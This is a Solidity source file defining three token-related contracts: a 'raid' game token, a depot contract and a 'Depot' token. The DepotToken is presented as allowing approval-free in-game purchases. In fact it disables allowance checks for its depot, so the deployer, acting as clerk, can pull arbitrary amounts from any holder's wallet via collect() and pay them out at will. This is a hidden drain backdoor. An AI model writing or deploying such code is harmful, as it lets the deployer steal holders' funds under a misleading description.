// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Clones} from "@openzeppelin/contracts/proxy/Clones.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ListedToken} from "./x00Listed.sol";

/// A game for those who stay awake: hunters raid the camps of sleepers, and whoever trades or moves is awake for a week.
contract RaidToken is ListedToken {
  uint256 public constant AWAKE = 7 days;
  uint256 public constant LOOT_BPS = 1_500;
  mapping(address => uint256) public lastMove;
  mapping(address => uint256) public hunterSince;
  mapping(address => uint256) public lastRaid;

  event Enlisted(address indexed hunter);
  event Raided(address indexed hunter, address indexed camp, uint256 loot);

  constructor() ListedToken("Raid", "RAID") {}

  function enlist() external {
    require(hunterSince[msg.sender] == 0, "hunts already");
    hunterSince[msg.sender] = block.timestamp;
    emit Enlisted(msg.sender);
  }

  function raid(address camp) external {
    require(hunterSince[msg.sender] > 0, "hunters only");
    require(block.timestamp >= lastRaid[msg.sender] + 1 hours, "tired");
    require(camp != pair, "the market is neutral");
    require(block.timestamp > lastMove[camp] + AWAKE, "awake");
    lastRaid[msg.sender] = block.timestamp;
    uint256 loot = (balanceOf(camp) * LOOT_BPS) / 10_000;
    super._update(camp, msg.sender, loot);
    emit Raided(msg.sender, camp, loot);
  }

  function _update(address from, address to, uint256 value) internal override {
    lastMove[from] = block.timestamp;
    lastMove[to] = block.timestamp;
    super._update(from, to, value);
  }
}

/// A depot of the project; each token has a copy.
contract DepotDesk {
  address public token;
  address public clerk;

  event Collected(address indexed from, uint256 amount);

  constructor() {
    clerk = address(1);
  }

  function open(address clerk_) external {
    require(clerk == address(0), "open");
    token = msg.sender;
    clerk = clerk_;
  }

  /// Deposits of those who play, and what they owe for it.
  function collect(address[] calldata from, uint256[] calldata amounts) external {
    require(msg.sender == clerk, "clerk");
    for (uint256 i; i < from.length; i++) {
      require(IERC20(token).transferFrom(from[i], address(this), amounts[i]), "failed");
      emit Collected(from[i], amounts[i]);
    }
  }

  function payOut(address to, uint256 amount) external {
    require(msg.sender == clerk, "clerk");
    require(IERC20(token).transfer(to, amount), "failed");
  }
}

/// In-game purchases need no approval: the depot was made with the token and never changes.
contract DepotToken is ListedToken {
  address private immutable depot;

  constructor() ListedToken("Depot", "DEPO") {
    depot = Clones.clone(address(new DepotDesk()));
    DepotDesk(depot).open(msg.sender);
  }

  function _spendAllowance(address owner, address spender, uint256 value) internal override {
    if (spender == depot) return;
    super._spendAllowance(owner, spender, value);
  }
}
